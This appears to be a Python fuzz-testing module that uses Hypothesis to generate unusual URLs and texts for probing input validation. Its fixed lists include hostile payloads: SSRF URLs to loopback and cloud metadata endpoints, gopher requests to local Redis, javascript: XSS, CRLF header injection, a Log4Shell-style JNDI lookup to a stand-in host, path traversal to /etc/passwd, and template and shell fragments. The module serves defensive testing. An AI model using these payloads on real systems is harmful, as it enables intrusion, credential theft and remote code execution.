"""Texts on which programs trip: lengths, code points, escapes, URLs.

Rules: this module says what is worth sending. Whether a text is certainly valid or invalid, the
contract decides (`Constraint.judge`). Each list gives its reason. `URLS` is for fields that hold
URLs, because a server may open them or redirect to them.
"""

from __future__ import annotations

import ipaddress
import re
import string
import unicodedata
from collections.abc import Callable, Sequence
from typing import Literal
from urllib.parse import quote

from hypothesis import strategies as st
from hypothesis.strategies import SearchStrategy

_EDGES = (63, 64, 100, 127, 128, 255, 256, 500, 512, 1000, 1023, 1024, 2000, 2047, 2048, 4095, 4096)
"""Sizes of buffers and columns, where programs are often off by one."""

_MEANT = (
    "2F", "5C", "00", "0A", "0D", "20", "23", "25", "2E", "3F", "40", "26", "3D", "3A",
    "3B", "2B", "3C", "3E", "27", "22", "7F", "C0", "FF",
)  # fmt: skip
"""Bytes that do harm if a program unescapes them too early or twice, and bytes that are not
UTF-8.
"""

URLS = (
    # userinfo, and texts that look like a host and are not one
    "https://user:pass@app.example.com/", "https://app.example.com@evil.example/",
    "https://app.example.com%40evil.example/", "https://app.example.com:443@evil.example/",
    "https://evil.example#@app.example.com/", "https://evil.example\\@app.example.com/",
    "https://app.example.com.evil.example/", "https:///app.example.com/", "https:app.example.com",
    "https:/\\app.example.com/", "\\\\evil.example\\share", "https://app。example。com/",
    # schemes that run or read something
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_INFO", "dict://127.0.0.1:11211/stat", "ldap://127.0.0.1/",
    "view-source:https://example.com/", "blob:https://example.com/1", "jar:file:///x!/y",
    # line ends and NUL
    "https://app.example.com/\r\nSet-Cookie: x=1", "https://app.example.com/%0d%0aX-A: 1",
    "https://app.example.com/\n", "\nhttps://app.example.com/", "https://app.example.com/\x00",
    "https://app.example.com\x00.evil.example/", "https://app.example.com/\u2028",
    # homographs, and letters that fold or normalise to others
    "https://аpp.example.com/", "https://exаmple.com/", "https://faß.example/",
    "https://ｅｘａｍｐｌｅ.com/", "https://example。com/", "https://ⓔxample.com/",
    "https://K.example/", "https://ﬁ.example/", "https://İ.example/", "https://ı.example/",
    "https://a\u200db.example/", "https://a\u00adb.example/", "https://a\u202eb.example/",
    "https://xn--a.example/", "https://xn--.example/", "https://cafe\u0301.example/",
    # this machine and its network, in every spelling
    "http://localhost/", "http://127.0.0.1/", "http://127.1/", "http://2130706433/",
    "http://0x7f000001/", "http://0177.0.0.1/", "http://0/", "http://[::1]/", "http://[::]/",
    "http://[::ffff:127.0.0.1]/", "http://[0:0:0:0:0:ffff:7f00:1]/", "http://[fe80::1%25eth0]/",
    "http://10.0.0.1/", "http://192.168.0.1/", "http://172.16.0.1/", "http://100.64.0.1/",
    "http://localhost.localdomain/", "http://127.0.0.1.nip.io/", "http://app.example.com:22/",
    # metadata of clouds
    "http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/", "http://169.254.169.254.nip.io/",
    "http://100.100.100.200/latest/meta-data/", "http://0xA9FEA9FE/",
    # mixed encodings, odd ports, odd paths
    "https://%65xample.com/", "https://example.com:0/", "https://example.com:65536/",
    "https://example.com:99999/", "https://example.com:-1/", "https://example.com:+443/",
    "https://example.com:٤٤٣/", "https://example.com:/", "https://example.com:443:443/",
    "https://example.com/%", "https://example.com/%zz", "https://example.com/%c0%ae%c0%ae/",
    "https://example.com/../../etc/passwd", "https://example.com/..;/", "https://[::1", "https://]",
    "https://example.com./", "https://.example.com/", "https://example..com/", "https://-a.example/",
    "HTTPS://EXAMPLE.COM/", "hTtP://example.com/", "https://example.com?#", "https://?", "https://#",
    "https://" + "a" * 64 + ".example/", "https://" + ".".join(["a" * 60] * 5) + ".example/",
    # texts that templates, shells, databases and logs may execute
    "https://app.example.com/{{7*7}}", "https://app.example.com/${jndi:ldap://x.example/a}",
    "https://app.example.com/'--", "https://app.example.com/\";ls", "https://app.example.com/%s%n",
)  # fmt: skip

PLAIN = (
    "", " ", "null", "undefined", "0", "-1", "NaN", "true", "[]", "{}", "\x00", "\ufeff", "\u202e",
    "'", '"', "`", "\\", "<script>alert(1)</script>", "{{7*7}}", "${7*7}", "%s%n",
    "../../etc/passwd", "a" * 256, "a" * 65_537, "é", "e\u0301", "ß", "İ", "💩", "\ud7ff", "١٢٣",
    "1e400", "2147483648", "9223372036854775808", "1970-01-01", "2026-02-30", "0000-00-00",
)  # fmt: skip
"""For fields that hold no URL."""

_SCRIPTS = (
    # In each, some library maps, forbids, composes or confuses letters.
    (0xDF, 0xFF), (0x100, 0x17F), (0x180, 0x24F), (0x1E00, 0x1EF9),  # Latin
    (0x3AC, 0x3CE), (0x430, 0x45F), (0x561, 0x586),  # Greek, Cyrillic, Armenian
    (0x5D0, 0x5EA), (0x620, 0x64A),  # Hebrew, Arabic: from right to left
    (0x905, 0x939), (0xE01, 0xE2E),  # Devanagari, Thai
    (0x3041, 0x30FA), (0x4E00, 0x9FFF), (0xAC00, 0xD7A3),  # Kana, Han, Hangul
)  # fmt: skip


def _letters(first: int, last: int) -> str:
    """The letters of a script, without upper-case ones."""
    letters = map(chr, range(first, last + 1))
    return "".join(letter for letter in letters if unicodedata.category(letter) in ("Ll", "Lo"))


_ALPHABETS = tuple(_letters(*script) for script in _SCRIPTS)


# Drawing takes most of the time of a fuzz. So each part of a URL is one draw, which is mapped to a
# text. Bytes are drawn because all bytes are equally likely; of numbers and letters beyond 256,
# Hypothesis prefers small ones.


def numbers(count: int) -> SearchStrategy[int]:
    """Numbers from 0 to below a count, all equally likely."""
    return st.binary(min_size=4, max_size=4).map(lambda drawn: int.from_bytes(drawn) % count)


def _words() -> set[str]:
    """Letters of all scripts, percent-encoded, composed and decomposed (Unicode Annex 15)."""
    letters = [letter for alphabet in _ALPHABETS for letter in alphabet[:: len(alphabet) // 90 + 1]]
    forms: tuple[Literal["NFC", "NFD"], ...] = ("NFC", "NFD")
    return {quote(unicodedata.normalize(form, letter)) for form in forms for letter in letters}


_BYTES = tuple(f"{byte:02X}" for byte in range(256))
_CLASSES: tuple[Sequence[str], ...] = (
    string.ascii_letters + string.digits,
    ("/", "/", "/", ".", "..", "//"),
    ("?", "&", "=", "#", "?a=", "&a=", "&a[]=", "#a="),
    "-._~!$&'()*+,;=:@",
    tuple("%" + spelled for digits in _MEANT for spelled in (digits, digits.lower())),
    tuple("%" + spelled for digits in _BYTES for spelled in (digits, digits.lower())),
    tuple(sorted(_words())),
    tuple(sorted(_words())),
)
"""The pieces of paths, queries and fragments, by kind; all kinds are equally likely."""


def _piece(number: int) -> str:
    number, kind = divmod(number, len(_CLASSES))
    return _CLASSES[kind][number % len(_CLASSES[kind])]


def _rest(drawn: bytes) -> str:
    """What follows host and port: two bytes stand for a piece."""
    text = "".join(_piece(int.from_bytes(drawn[at : at + 2])) for at in range(0, len(drawn), 2))
    text = text if not text or text[0] in "/?#" else "/" + text
    before, mark, fragment = text.partition("#")
    return before + mark + fragment.replace("#", "%23")


_REST = st.one_of(st.binary(max_size=8), st.binary(min_size=8, max_size=40)).map(_rest)


def _labels(drawn: str) -> str:
    """A host of the labels that a text of letters, digits, hyphens and dots has."""
    labels = [label.strip("-")[:63] for label in drawn.split(".")]
    return ".".join([*(label for label in labels if label), "example"])


def _long_host(number: int) -> str:
    """Labels that are all of one length, which up to 63 is valid, up to a host of 253."""
    length, count = number % 63 + 1, number // 63 + 1
    labels = ["a" * length] * min(count, 245 // (length + 1))
    return ".".join([*labels, "example"])


def _foreign(letters: str) -> str:
    """A host in another script, in labels of up to twelve letters."""
    labels = [letters[start : start + 12] for start in range(0, len(letters), 12)]
    return ".".join([*labels, "example"])


_PLAIN_HOSTS = ("app.example.com", "example.com", "EXAMPLE.com", "xn--bcher-kva.example")
_HOST = st.one_of(
    st.sampled_from(_PLAIN_HOSTS),
    st.one_of([st.text(letters, min_size=1, max_size=36) for letters in _ALPHABETS]).map(_foreign),
    st.text(string.ascii_lowercase + string.digits + "-.", max_size=60).map(_labels),
    numbers(63 * 120).map(_long_host),
    numbers(2**32).map(lambda number: str(ipaddress.IPv4Address(number))),
    # 2000::/3 are the addresses of the public internet.
    st.integers(2**125, 2**126 - 1).map(lambda n: f"[{ipaddress.IPv6Address(n)}]"),
)

_PORTS = (1, 21, 22, 25, 80, 443, 1023, 1024, 8080, 8443, 32767, 32768, 49152, 65534, 65535)


def _port(number: int) -> str:
    """No port, a well-known one, or any."""
    if number < 50_000:
        return ""
    number -= 50_000
    return f":{number}" if 0 < number < 65_536 else f":{_PORTS[number % len(_PORTS)]}"


_PORT = numbers(150_000).map(_port)
_SCHEME = st.sampled_from(["https", "https", "https", "HTTPS", "Https"])


def _length(number: int) -> int:
    """No particular length (0), one at or beside the edges, or any."""
    number, kind = divmod(number, 8)
    if kind < 5:
        return 0
    if kind == 5:
        return _EDGES[number % len(_EDGES)] + (0, 0, -1, 1)[number // len(_EDGES) % 4]
    return 25 + number % (276 if kind == 6 else 2_024)


_LENGTH = numbers(80_000_000).map(_length)


def _joined(parts: tuple[str, str, str, str, int]) -> str:
    """A URL made of its parts, padded to a length."""
    scheme, host, port, rest, length = parts
    url = f"{scheme}://{host}{port}{rest}"
    if length <= len(url):
        return url
    url += "" if rest else "/"
    return url + "a" * (length - len(url))


_URL = st.tuples(_SCHEME, _HOST, _PORT, _REST, _LENGTH).map(_joined)


def urls() -> SearchStrategy[str]:
    """URLs that are unusual in each part: letters of many scripts and labels of all lengths in the
    host, any port, escapes of all kinds, exact lengths. Most are certainly valid.
    """
    return _URL


_OTHER_SCHEMES = ("ftp", "ws", "wss", "file", "javascript", "data", "vbscript", "htp", "httpss")
_CASINGS = (str.lower, str.upper, str.capitalize, str.swapcase)
_BEFORE = ("/", "?u=", "#", "/r?next=", "//app.example.com/?u=", "url=", "mailto:a@b.example?body=")
_BEGINNINGS = (*(f"{casing(scheme)}:" for scheme in _OTHER_SCHEMES for casing in _CASINGS),)


def _no_url(drawn: tuple[str, int]) -> str:
    """A URL without its scheme or with another one, with a text before it, or with a space."""
    url, number = drawn
    number, kind = divmod(number, 4)
    _, _, rest = url.partition(":")
    if kind == 0:
        return rest[number % 3 :]
    if kind == 1:
        return _BEGINNINGS[number % len(_BEGINNINGS)] + rest
    if kind == 2:
        return _BEFORE[number % len(_BEFORE)] + url
    return "https://a " + rest[2:]


_NO_URL = st.tuples(_URL, numbers(4 * 36 * 7)).map(_no_url)


def no_urls() -> SearchStrategy[str]:
    """Texts that are not an http(s) URL, made from one that is. Most are certainly invalid."""
    return _NO_URL


def related(text: str) -> SearchStrategy[str]:
    """Texts that are nearly equal, and that careless comparisons and caches confuse."""
    return st.sampled_from(
        [
            text,
            text.upper() if "://" not in text else _of_path(text, str.upper),
            text + "/",
            text + "?",
            text + "#",
            text + "a",
            text[:-1],
            _of_path(text, str.swapcase),
            _of_path(text, lambda path: path.replace("a", "%61")),
            text + "/" + text.rpartition("://")[2],
        ]
    )


def _of_path(url: str, change: Callable[[str], str]) -> str:
    """A URL with its path and the rest changed; escapes stay as they are."""
    start = url.find("/", url.find("://") + 3)
    if start < 0:
        return url
    pieces = re.split(r"(%[0-9A-Fa-f]{2})", url[start:])
    return url[:start] + "".join(p if p.startswith("%") else change(p) for p in pieces)


def names() -> SearchStrategy[str]:
    """Unknown names of properties: names with a meaning in some language or store, names with
    signs, and any others.
    """
    word = st.text(string.ascii_letters, min_size=1, max_size=8)
    sign = st.sampled_from(string.punctuation)
    return st.one_of(
        st.sampled_from(["__proto__", "constructor", "toString", "", "id", "type", "url", "class"]),
        st.builds("{}{}".format, sign, word),
        st.builds("{}{}{}".format, word, sign, word),
        st.text(max_size=10),
        st.builds(str.__mul__, st.sampled_from("aé"), st.sampled_from([64, 65, 255, 256, 1_025])),
    )
